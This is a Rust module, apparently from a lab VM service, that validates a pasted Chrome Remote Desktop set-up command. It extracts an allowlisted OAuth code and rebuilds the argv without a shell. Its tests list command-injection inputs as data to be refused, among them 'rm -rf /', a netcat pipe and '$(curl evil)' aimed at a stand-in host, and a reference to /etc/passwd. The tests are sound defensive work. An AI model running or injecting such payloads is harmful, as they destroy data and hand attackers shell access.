//! The Chrome Remote Desktop command a participant pastes from Google's headless set-up
//! page (seed 000 §Phase 3):
//!
//! ```text
//! DISPLAY= /opt/google/chrome-remote-desktop/start-host --code="4/0A…" \
//!   --redirect-url="https://remotedesktop.google.com/_/oauthredirect" --name=$(hostname)
//! ```
//!
//! Classic ran the pasted text through a shell. We keep only the `--code` value, checked
//! against a strict allowlist, and rebuild the argv ourselves; nothing else pasted reaches
//! the VM. Text that looks like an attempt to smuggle shell syntax is refused outright
//! rather than silently cleaned, so the participant learns their paste was wrong.

use super::Hostname;

pub const START_HOST_PATH: &str = "/opt/google/chrome-remote-desktop/start-host";
pub const CRD_REDIRECT_URL: &str = "https://remotedesktop.google.com/_/oauthredirect";

/// The `--name=$(hostname)` Google prints is the only `$(` we accept; its value is
/// ignored anyway (we pass the VM's own hostname).
const GOOGLE_NAME_SUBSTITUTION: &str = "$(hostname)";

#[derive(Clone, PartialEq, Eq)]
pub struct CrdCommand {
    code: String,
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum CrdError {
    #[error("the command is empty; paste the command shown on Google's Chrome Remote Desktop set-up page")]
    Empty,
    #[error("the command is longer than {max} characters; paste only the command from Google's page")]
    TooLong { max: usize },
    #[error("the command must be a single line (a line may end with \\ to continue on the next)")]
    MultiLine,
    #[error("the command contains {0:?}, which Google's command never does; paste it unchanged")]
    ForbiddenCharacter(char),
    #[error("the command contains a shell substitution ($…); only Google's --name=$(hostname) is allowed")]
    Substitution,
    #[error("the command has an unclosed quote")]
    UnbalancedQuote,
    #[error("the command has no --code; paste the whole command from Google's page")]
    MissingCode,
    #[error("the command has more than one --code")]
    DuplicateCode,
    #[error("the --code value is empty")]
    EmptyCode,
    #[error("the --code value is longer than {max} characters")]
    CodeTooLong { max: usize },
    #[error("the --code value may only contain letters, digits, '/', '_' and '-' (found {0:?})")]
    BadCodeCharacter(char),
}

/// Remove shell line continuations (`\` at the end of a line, as Google's page and its
/// copies wrap the command), as the shell does: the two lines join with nothing between
/// (a wrap inside the code keeps the code whole). A backslash anywhere else stays, and is
/// refused later.
fn join_continuations(input: &str) -> String {
    let mut out = String::with_capacity(input.len());
    let mut rest = input;
    while let Some(at) = rest.find('\\') {
        let after = rest[at + 1..].trim_start_matches([' ', '\t']);
        let next_line = after.strip_prefix("\r\n").or_else(|| after.strip_prefix('\n'));
        out.push_str(&rest[..at]);
        match next_line {
            Some(next) => rest = next,
            None => {
                out.push('\\');
                rest = &rest[at + 1..];
            }
        }
    }
    out.push_str(rest);
    out
}

impl CrdCommand {
    pub const MAX_INPUT_LEN: usize = 2048;
    pub const MAX_CODE_LEN: usize = 512;

    /// Parse what a participant pasted.
    pub fn parse(input: &str) -> Result<Self, CrdError> {
        let input = input.trim();
        if input.is_empty() {
            return Err(CrdError::Empty);
        }
        if input.chars().count() > Self::MAX_INPUT_LEN {
            return Err(CrdError::TooLong {
                max: Self::MAX_INPUT_LEN,
            });
        }
        let joined = join_continuations(input);
        let input = joined.as_str();
        if input.contains(['\n', '\r']) {
            return Err(CrdError::MultiLine);
        }
        if let Some(c) = input.chars().find(|c| c.is_control() || ";|&`<>\\".contains(*c)) {
            return Err(CrdError::ForbiddenCharacter(c));
        }
        if input.replace(GOOGLE_NAME_SUBSTITUTION, "").contains('$') {
            return Err(CrdError::Substitution);
        }

        let tokens = tokenize(input)?;
        let mut code = None;
        let mut iter = tokens.iter();
        while let Some(tok) = iter.next() {
            let value = if let Some(v) = tok.strip_prefix("--code=") {
                v.to_owned()
            } else if tok == "--code" {
                iter.next().cloned().unwrap_or_default()
            } else {
                continue;
            };
            if code.replace(value).is_some() {
                return Err(CrdError::DuplicateCode);
            }
        }
        let code = code.ok_or(CrdError::MissingCode)?;
        Self::from_code(&code)
    }

    /// Build from a bare code, checking the allowlist.
    pub fn from_code(code: &str) -> Result<Self, CrdError> {
        if code.is_empty() {
            return Err(CrdError::EmptyCode);
        }
        if code.len() > Self::MAX_CODE_LEN {
            return Err(CrdError::CodeTooLong {
                max: Self::MAX_CODE_LEN,
            });
        }
        if let Some(c) = code
            .chars()
            .find(|c| !(c.is_ascii_alphanumeric() || "/_-".contains(*c)))
        {
            return Err(CrdError::BadCodeCharacter(c));
        }
        Ok(Self {
            code: code.to_owned(),
        })
    }

    pub fn code(&self) -> &str {
        &self.code
    }

    /// The form we store and hand to VMs: Google's own command rebuilt around the
    /// checked code, so a classic client that re-parses it still works.
    pub fn normalized(&self) -> String {
        format!(
            "DISPLAY= {START_HOST_PATH} --code=\"{}\" --redirect-url=\"{CRD_REDIRECT_URL}\" --name={GOOGLE_NAME_SUBSTITUTION}",
            self.code
        )
    }

    /// The argv to execute directly (no shell), with `DISPLAY` set empty (see [`Self::env`]).
    pub fn argv(&self, host: &Hostname) -> Vec<String> {
        vec![
            START_HOST_PATH.to_owned(),
            format!("--code={}", self.code),
            format!("--redirect-url={CRD_REDIRECT_URL}"),
            format!("--name={host}"),
        ]
    }

    /// Environment the command runs with.
    pub fn env(&self) -> [(&'static str, &'static str); 1] {
        [("DISPLAY", "")]
    }
}

/// The code is a one-time secret: keep it out of logs.
impl std::fmt::Debug for CrdCommand {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "CrdCommand(code: {} chars)", self.code.len())
    }
}

/// Split on whitespace, honouring single and double quotes (no escapes: backslashes
/// were refused before we get here).
fn tokenize(input: &str) -> Result<Vec<String>, CrdError> {
    let mut tokens = Vec::new();
    let mut cur = String::new();
    let mut in_token = false;
    let mut quote: Option<char> = None;
    for c in input.chars() {
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => cur.push(c),
            None if c == '"' || c == '\'' => {
                quote = Some(c);
                in_token = true;
            }
            None if c.is_whitespace() => {
                if in_token {
                    tokens.push(std::mem::take(&mut cur));
                    in_token = false;
                }
            }
            None => {
                cur.push(c);
                in_token = true;
            }
        }
    }
    if quote.is_some() {
        return Err(CrdError::UnbalancedQuote);
    }
    if in_token {
        tokens.push(cur);
    }
    Ok(tokens)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const CODE: &str = "4/0AanRJrjkgQxYz_-AbC123";

    fn google(code_part: &str) -> String {
        format!(
            "DISPLAY= /opt/google/chrome-remote-desktop/start-host {code_part} --redirect-url=\"https://remotedesktop.google.com/_/oauthredirect\" --name=$(hostname)"
        )
    }

    #[test]
    fn every_way_google_and_people_write_the_code_parses() {
        for part in [
            format!("--code=\"{CODE}\""),
            format!("--code='{CODE}'"),
            format!("--code={CODE}"),
            format!("--code {CODE}"),
            format!("--code \"{CODE}\""),
        ] {
            let cmd = CrdCommand::parse(&google(&part)).unwrap_or_else(|e| panic!("{part}: {e}"));
            assert_eq!(cmd.code(), CODE);
        }
        // As the module doc shows it: wrapped with shell line continuations (LF or CRLF,
        // trailing blanks after the backslash as copied from a web page).
        for wrapped in [
            format!(
                "DISPLAY= {START_HOST_PATH} --code=\"{CODE}\" \\\n  --redirect-url=\"{CRD_REDIRECT_URL}\" --name=$(hostname)"
            ),
            format!("DISPLAY= {START_HOST_PATH} \\ \r\n--code={CODE} \\\n--name=$(hostname)"),
            // Wrapped inside the code: the shell joins the halves, so do we.
            format!("--code={}\\\n{} --name=$(hostname)", &CODE[..8], &CODE[8..]),
        ] {
            let cmd = CrdCommand::parse(&wrapped).unwrap_or_else(|e| panic!("{wrapped:?}: {e}"));
            assert_eq!(cmd.code(), CODE);
        }
        // Pasted with stray whitespace around it, or just the flag.
        assert_eq!(
            CrdCommand::parse(&format!("  --code={CODE}\t ")).unwrap().code(),
            CODE
        );
    }

    #[test]
    fn argv_is_rebuilt_and_extra_flags_never_reach_it() {
        let pasted = google(&format!("--code=\"{CODE}\" --evil=1 --config=/etc/passwd"));
        let cmd = CrdCommand::parse(&pasted).unwrap();
        let host = Hostname::parse("lablink-vm-3").unwrap();
        assert_eq!(
            cmd.argv(&host),
            vec![
                START_HOST_PATH.to_owned(),
                format!("--code={CODE}"),
                format!("--redirect-url={CRD_REDIRECT_URL}"),
                "--name=lablink-vm-3".to_owned(),
            ]
        );
        assert_eq!(cmd.env(), [("DISPLAY", "")]);
        let stored = cmd.normalized();
        assert!(!stored.contains("evil") && !stored.contains("passwd"));
        assert_eq!(
            CrdCommand::parse(&stored).unwrap(),
            cmd,
            "the stored form re-parses"
        );
    }

    #[test]
    fn shell_syntax_is_refused() {
        let cases: Vec<(String, CrdError)> = vec![
            (
                google(&format!("--code={CODE}; rm -rf /")),
                CrdError::ForbiddenCharacter(';'),
            ),
            (
                google(&format!("--code={CODE} | nc evil 1")),
                CrdError::ForbiddenCharacter('|'),
            ),
            (
                google(&format!("--code={CODE} && reboot")),
                CrdError::ForbiddenCharacter('&'),
            ),
            (google("--code=\"$(curl evil)\""), CrdError::Substitution),
            (google(&format!("--code={CODE}$(id)")), CrdError::Substitution),
            (google("--code=${HOME}"), CrdError::Substitution),
            (
                google(&format!("--code=`id`{CODE}")),
                CrdError::ForbiddenCharacter('`'),
            ),
            (format!("--code={CODE}\nreboot"), CrdError::MultiLine),
            (format!("--code={CODE} \\\n\nreboot"), CrdError::MultiLine),
            (
                format!("--code={CODE} \\ --name=x"),
                CrdError::ForbiddenCharacter('\\'),
            ),
            (format!("--code={CODE}\rreboot"), CrdError::MultiLine),
            (
                google(&format!("--code={CODE} > /tmp/x")),
                CrdError::ForbiddenCharacter('>'),
            ),
            (
                google(&format!("--code={CODE} --code=4/other")),
                CrdError::DuplicateCode,
            ),
            (google("--code=\"4/0A;B\""), CrdError::ForbiddenCharacter(';')),
            (google("--code=\"4/0A.B\""), CrdError::BadCodeCharacter('.')),
            (google("--code=\"4/0A B\""), CrdError::BadCodeCharacter(' ')),
            (google("--code=\"4/0A=B\""), CrdError::BadCodeCharacter('=')),
            (google("--code=\"4/0A\"B'"), CrdError::UnbalancedQuote),
            (google("--code="), CrdError::EmptyCode),
            (google("--redirect-only"), CrdError::MissingCode),
            (String::new(), CrdError::Empty),
            (
                format!("--code={}", "a".repeat(600)),
                CrdError::CodeTooLong { max: 512 },
            ),
            (
                format!("--code={CODE} {}", "x".repeat(3000)),
                CrdError::TooLong { max: 2048 },
            ),
        ];
        for (input, want) in cases {
            assert_eq!(CrdCommand::parse(&input), Err(want.clone()), "input: {input:?}");
            assert!(!want.to_string().is_empty());
        }
    }

    #[test]
    fn debug_output_hides_the_code() {
        let cmd = CrdCommand::parse(&google(&format!("--code={CODE}"))).unwrap();
        assert!(!format!("{cmd:?}").contains(CODE));
    }

    proptest! {
        #[test]
        fn whatever_is_pasted_the_argv_is_safe(input in "\\PC{0,300}") {
            if let Ok(cmd) = CrdCommand::parse(&input) {
                let host = Hostname::parse("vm-1").unwrap();
                let argv = cmd.argv(&host);
                prop_assert_eq!(argv.len(), 4);
                prop_assert_eq!(argv[0].as_str(), START_HOST_PATH);
                let code = argv[1].strip_prefix("--code=").unwrap();
                prop_assert!(code.chars().all(|c| c.is_ascii_alphanumeric() || "/_-".contains(c)));
                prop_assert_eq!(argv[3].as_str(), "--name=vm-1");
            }
        }

        #[test]
        fn every_allowlisted_code_round_trips(code in "[A-Za-z0-9/_-]{1,200}") {
            let pasted = google(&format!("--code=\"{code}\""));
            let parsed = CrdCommand::parse(&pasted).unwrap();
            prop_assert_eq!(parsed.code(), code.as_str());
        }

        #[test]
        fn injected_separators_are_always_refused(
            code in "[A-Za-z0-9/_-]{1,40}",
            sep in prop::sample::select(vec![";", "|", "&&", "`", "\n", "$(", "||"]),
            tail in "[a-z ]{0,20}",
        ) {
            let pasted = google(&format!("--code={code}{sep}{tail}"));
            prop_assert!(CrdCommand::parse(&pasted).is_err());
        }
    }
}
